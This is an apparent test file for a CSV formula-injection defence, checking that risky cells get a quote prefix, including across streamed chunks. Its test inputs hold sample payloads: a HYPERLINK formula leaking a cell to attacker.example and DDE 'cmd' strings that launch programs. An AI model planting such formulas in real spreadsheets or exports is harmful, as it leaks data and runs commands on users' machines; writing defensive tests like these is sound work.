"""CSV formula injection (issue 14 item 5): one rule, `safe_cell`, for every CSV written or served."""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eventwire.csvsafe import CsvNeutraliser, is_formula, safe_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!'A1'",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "--flag",
        "- a dash that starts a list item",
    ],
)
def test_formula_cells_are_prefixed_with_a_quote(cell: str) -> None:
    assert is_formula(cell)
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-12", "+3.5", "-0.25", "-1e5", "-.5", "12", "Lagos", "", "'=already quoted", "a=b", "police @ scene"]
)
def test_plain_text_and_numbers_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue()


def _chunks(text: str, cuts: list[int]) -> list[str]:
    points = sorted({min(c, len(text)) for c in cuts})
    edges = [0, *points, len(text)]
    return [text[a:b] for a, b in itertools.pairwise(edges)]


CELL = st.one_of(
    st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\",ab 1.e'")), max_size=8),
    st.text(max_size=6),
    st.from_regex(r"[+-]?\d{1,3}(\.\d{1,2})?", fullmatch=True),
)


@settings(max_examples=300)
@given(st.lists(st.lists(CELL, min_size=1, max_size=5), min_size=1, max_size=6), st.lists(st.integers(0, 200)))
def test_a_stream_cut_anywhere_comes_out_as_if_each_cell_were_made_safe(rows: list[list[str]], cuts: list[int]) -> None:
    neutraliser = CsvNeutraliser()
    out = "".join(neutraliser.feed(chunk) for chunk in _chunks(_csv(rows), cuts)) + neutraliser.close()
    assert out == _csv([[safe_cell(cell) for cell in row] for row in rows])
    assert list(csv.reader(io.StringIO(out))) == list(
        csv.reader(io.StringIO(_csv([[safe_cell(c) for c in row] for row in rows])))
    )
